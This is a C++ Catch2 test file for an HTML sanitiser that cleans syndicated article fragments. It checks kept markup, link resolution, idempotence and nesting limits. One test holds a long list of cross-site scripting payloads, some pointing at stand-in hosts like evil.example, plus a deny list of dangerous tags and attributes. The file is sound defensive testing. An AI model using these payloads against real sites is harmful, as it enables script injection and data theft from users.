#include "normalise/sanitise.hpp"

#include <catch2/catch.hpp>

#include <string>
#include <vector>

using namespace syndicated::normalise;

namespace {

constexpr const char* base = "https://site.example/a/b.html";

std::string clean(const std::string& html) {
    return sanitise_fragment(html, base).html;
}

struct Case {
    std::string name, html, expected;
};

}  // namespace

TEST_CASE("the sanitiser keeps text and the elements that carry meaning") {
    const std::vector<Case> cases{
        {"paragraphs", "<p>一</p><p>二</p>", "<p>一</p><p>二</p>"},
        {"bare text", "一段文字", "<p>一段文字</p>"},
        {"divs", "<div>一</div><div>二</div>", "<p>一</p><p>二</p>"},
        {"line breaks", "<p>一<br>二</p>", "<p>一<br/>二</p>"},
        {"doubled line breaks", "一<br><br>二<br/> <br/>三", "<p>一</p><p>二</p><p>三</p>"},
        {"line breaks at the ends", "<p><br>一<br></p>", "<p>一</p>"},
        {"indents", "<p>　　一，&nbsp;二　三 </p>", "<p>一， 二　三</p>"},
        {"empty elements", "<p></p><p> &nbsp;</p><div><span></span></div>一", "<p>一</p>"},
        {"emphasis", "<p><b>一</b><font color=red>二</font><em>三</em></p>", "<p><b>一</b>二<em>三</em></p>"},
        {"blanks at seams", "<p>a <b> b </b> c</p>", "<p>a <b>b</b> c</p>"},
        {"a heading", "<h2>标题</h2>正文", "<h2>标题</h2><p>正文</p>"},
        {"a list", "<ul><li>一<li>二</ul>", "<ul><li>一</li><li>二</li></ul>"},
        {"a nested list", "<ul><li>一<ul><li>二</ul></ul>", "<ul><li>一<ul><li>二</li></ul></li></ul>"},
        {"a stray item", "<li>一</li>", "<p>一</p>"},
        {"a break in an item", "<ul><li>一<p></p>二</li></ul>", "<ul><li>一<p>二</p></li></ul>"},
        {"text in a list", "<ol>一<li>二</ol>", "<ol><li>一</li><li>二</li></ol>"},
        {"a table", "<table><tr><td>一<td colspan=2>二</table>",
         "<table><tr><td>一</td><td colspan=\"2\">二</td></tr></table>"},
        {"an empty cell", "<table><tr><td></td><td>二</td></tr></table>",
         "<table><tr><td></td><td>二</td></tr></table>"},
        {"an empty table", "<table><tr><td></td></tr></table>一", "<p>一</p>"},
        {"a quotation", "<blockquote>一</blockquote>", "<blockquote><p>一</p></blockquote>"},
        {"code", "<pre>a\n  b</pre>", "<pre>a\n  b</pre>"},
        {"escapes", "<p>1 &lt; 2 &amp;&amp; \"x\"</p>", "<p>1 &lt; 2 &amp;&amp; &#34;x&#34;</p>"},
        {"named entities", "<p>a&mdash;b&hellip;&copy;</p>", "<p>a—b…©</p>"},
        {"a link", "<p><a href=\"../c.html?x=1&y=2\" onclick=\"x()\" target=_blank>一</a></p>",
         "<p><a href=\"https://site.example/c.html?x=1&amp;y=2\">一</a></p>"},
        {"a link to nowhere", "<p><a href=\"#\">一</a><a>二</a></p>", "<p>一二</p>"},
        {"a link in a link", "<p><a href=/x>一<div><a href=/y>二</a></div></a></p>",
         "<p><a href=\"https://site.example/x\">一</a></p><p><a href=\"https://site.example/y\">二</a></p>"},
        {"a block in a paragraph", "<p>一<section>二</section>三</p>", "<p>一</p><p>二</p><p>三</p>"},
        {"an image", "<p><img src=/x.jpg alt='a\"b' width=640 height=50% border=0></p>",
         "<p><img src=\"https://site.example/x.jpg\" alt=\"a&#34;b\" width=\"640\" "
         "referrerpolicy=\"no-referrer\"/></p>"},
        {"a lazy image", "<img src=/ph.gif data-original=/u/1.jpg>",
         "<p><img src=\"https://site.example/u/1.jpg\" alt=\"\" referrerpolicy=\"no-referrer\"/></p>"},
        {"a figure", "<figure><img src=/x.jpg><figcaption>晒场</figcaption></figure>",
         "<figure><img src=\"https://site.example/x.jpg\" alt=\"\" referrerpolicy=\"no-referrer\"/>"
         "<figcaption>晒场</figcaption></figure>"},
        {"hidden text", "<p>一<span style='display: none'>二</span><span hidden>三</span></p>", "<p>一</p>"},
        {"visibility is how WeChat hides what it shows later", "<p style='visibility:hidden'>一</p>", "<p>一</p>"},
        {"characters that XML forbids",
         "<p>a\x01"
         "b&#x2;c\xEF\xBF\xBE"
         "d</p>",
         "<p>abcd</p>"},
        {"windows-1252 in disguise",
         "<p>a&#150;b\xC2\x93"
         "c</p>",
         "<p>a–b“c</p>"},
        {"malformed UTF-8",
         "<p>a\xFF"
         "b</p>",
         "<p>a\xEF\xBF\xBD"
         "b</p>"},
        {"bidi controls and zero-width characters", "<p>a\u202E\u200Bb\uFEFFc\u00ADd</p>", "<p>abcd</p>"},
        {"joiners", "<p>👨\u200D👩\u200D👧</p>", "<p>👨\u200D👩\u200D👧</p>"},
    };
    for (const Case& c : cases) {
        INFO(c.name);
        CHECK(clean(c.html) == c.expected);
    }
}

TEST_CASE("the sanitiser lets nothing through that runs, frames, posts or phones home") {
    const std::vector<std::string> vectors{
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<<script>alert(1)//<</script>",
        "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src='x' onerror='alert(1)'",
        "<img src=x:x onerror=alert(1)//>",
        "<IMG SRC=javascript:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img src=\" &#14; javascript:alert(1)\">",
        "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
        "<img srcset=\"javascript:alert(1) 2x\">",
        "<img data-src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href='//user:pw@evil.example/'>x</a>",
        "<a href=x style=\"x:expression(alert(1))\" onmouseover=alert(1)>x</a>",
        "<svg onload=alert(1)><g onload=alert(1)></g></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=x.swf></object><embed src=x.swf><applet code=x>",
        "<form action=//evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
        "<textarea><script>alert(1)</script></textarea>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<style><img src=x onerror=alert(1)></style>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<p style=\"position:fixed;top:0\" class=x id=y>x</p>",
        "<body onload=alert(1)>x",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<a href=\"https://x.example/\"onclick=\"alert(1)\">x</a>",
        "<p title='\"><script>alert(1)</script>'>x</p>",
        "<img alt='\"><script>alert(1)</script>' src=/a.png>",
        "<a href='https://x.example/\"><script>alert(1)</script>'>x</a>",
        "<table background=javascript:alert(1)><td>x",
        "<div id=\"x\"><h1 onclick=a>x</h1></div>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<img width=1 height=1 src=//count.example/pixel>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror\x0C=alert(1)>",
        "<img src=x onerror=\"&#97;lert(1)\">",
        "<img src=\"java\tscript:alert(1)\">",
        "<img src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
        "<img src=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">",
        "<img src='//evil.example@x.example/../' lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
        "<img src=/a.png usemap=#m><map name=m><area href=javascript:alert(1)></map>",
        "<picture><source srcset=\"javascript:alert(1)\"><img src=/a.png onload=alert(1)></picture>",
        "<a href=\"\x01javascript:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"javascript\x00:alert(1)\">x</a>",
        "<a "
        "href=\"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/"
        "+alert(1)//'>\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"blob:https://x.example/1\">x</a>",
        "<a href=\"jar:http://x.example!/a\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<a href=/x ping=//evil.example>x</a>",
        "<a href=/x target=_blank rel=opener download=x onauxclick=alert(1)>x</a>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<q cite=\"javascript:alert(1)\">x</q><del cite=javascript:alert(1)>y</del>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<title><img src=x onerror=alert(1)></title>",
        "<select><option><script>alert(1)</script></option></select><style></select><img src=x "
        "onerror=alert(1)></style>",
        "<keygen autofocus onfocus=alert(1)><isindex type=image src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
        "<audio src=x onerror=alert(1)><track src=//evil.example/x.vtt></audio>",
        "<dialog open onclose=alert(1)>x</dialog><slot onslotchange=alert(1)>",
        "<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<p style=\"background:url('javascript:alert(1)')\" lang='x\" onclick=alert(1)'>x</p>",
        "<td rowspan='2\" onclick=\"alert(1)' colspan=9999999999>x</td>",
        "<img src=/a.png width='1\" onload=\"alert(1)' height=-5>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\xC0\xBCscript\xC0\xBE"
        "alert(1)\xC0\xBC/script\xC0\xBE",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;<img src=x onerror=&quot;alert(1)&quot;>",
    };
    CHECK(vectors.size() >= 80);
    for (const std::string& vector : vectors) {
        INFO(vector);
        const std::string html = clean(vector);
        INFO(html);
        // Between an opened tag's name and its end only these attributes may stand.
        for (std::size_t at = html.find('<'); at != std::string::npos; at = html.find('<', at + 1)) {
            const std::string tag = html.substr(at, html.find('>', at) - at);
            for (const char* bad : {"<script",     "<style",    "<svg",   "<math",   "<iframe",      "<object",
                                    "<embed",      "<form",     "<input", "<meta",   "<base",        "<link",
                                    "<video",      "<template", " on",    " style=", " class=",      " id=",
                                    "javascript:", "vbscript:", "data:",  "file:",   "evil.example", "count.example"}) {
                CHECK(tag.find(bad) == std::string::npos);
            }
        }
        CHECK(clean(html) == html);
    }
}

TEST_CASE("what the sanitiser wrote, written again, stays the same") {
    const std::vector<std::string> inputs{
        "<b><p>a<i>b</p>c</i></b>d",
        "<p><table><tr><td><p>x<table><td>y</table>z",
        "<ul><ul><li>a</ul>b<p>c</ul>",
        "<dl><dt>a<dd>b<p>c<dt>d</dl><dd>e",
        "<table>text<caption>c</caption><tbody><td>a<th>b<tr><form><td>c</form></table>",
        "<a href=/x><h2>a</h2><p>b</p></a>",
        "<h1>a<h2>b</h1>c<p>d</h2>",
        "<pre>\n\n  a\n\n<b> b</b> \n</pre>",
        "<figure><p><img src=/x.png></p>text<figcaption>c<p>d</figcaption></figure><figcaption>e</figcaption>",
        "<blockquote><li>a</li>b<tr><td>c",
        "a<hr>b<p><hr>c<ul><hr></ul><table><hr></table>",
        "<q>a<q>b</q></q><sub><sup>c</sub></sup><small>d",
        "<ruby>漢<rp>(</rp><rt>han</rt><rp>)</rp></ruby>",
        "<p>a\u3000\u3000b &nbsp; c\u200Dd \u200D</p>",
        "<center><center>a<center>b",
        "<li><li><td><tr><p><dd>x</dd>",
        "<a href=/1>a<a href=/2>b<p>c</a>d</a>",
        "<table><tr><td>a</td></tr><tr></tr><tr><td></td></tr></table>",
        "<strike>a</strike><big>b</big><tt>c</tt>",
        "<p>a<br><br><b>b<br><br>c</b><br>d</p>",
        "&amp;amp;&lt;b&gt;<i></i>&#34;'",
        "<img src=/x.png alt='a&#127;b&#13;c&#x96;'><a href='/&#127;'>d</a>",
        "<pre>a&#13;b&#13;&#10;c</pre>",
        "a&#127;b&#x85;c&#xFFFE;d&#1;e",
    };
    for (const std::string& input : inputs) {
        INFO(input);
        const std::string once = clean(input);
        CHECK(clean(once) == once);
    }
}

TEST_CASE("deep nesting is bounded in what the sanitiser writes") {
    std::string html;
    for (int i = 0; i < 5'000; ++i) html += "<ul><li>";
    const std::string out = clean(html + "x");
    CHECK(out.find("x") != std::string::npos);
    CHECK(out.size() < 2'000);
}

TEST_CASE("the plain text of a body has a paragraph a line") {
    const SafeBody body = sanitise_fragment(
        "<p>　　一。</p>\n<p>二<br>三</p><ul><li>四</li></ul><table><tr><td>五</td><td>六</td></tr></table>"
        "<img src=/x.png alt=y>",
        base);
    CHECK(body.text == "一。\n二\n三\n四\n五 六");
    CHECK(sanitise_fragment("<table><tr><td>a<div></div><th>b<tr><td>d</table>", base).text == "a b\nd");
    CHECK(sanitise_fragment("<table><tr><td>a<form></form><td>b<tr><td><td>c</table>", base).text == "a b\nc");
    CHECK(sanitise_fragment("<table><tr><td>a<td><p>b</p><p>c</p></table>", base).text == "a b\nc");
    REQUIRE(body.images.size() == 1);
    CHECK(body.images[0].src == "https://site.example/x.png");
}

TEST_CASE("elements that never are shown are reported") {
    const HtmlTree tree =
        HtmlTree::parse_fragment("<p>a</p><script>x</script><script>y</script><iframe src=z></iframe>");
    CHECK(unsafe_elements(tree, 0) == std::vector<std::string>{"iframe", "script ×2"});
}
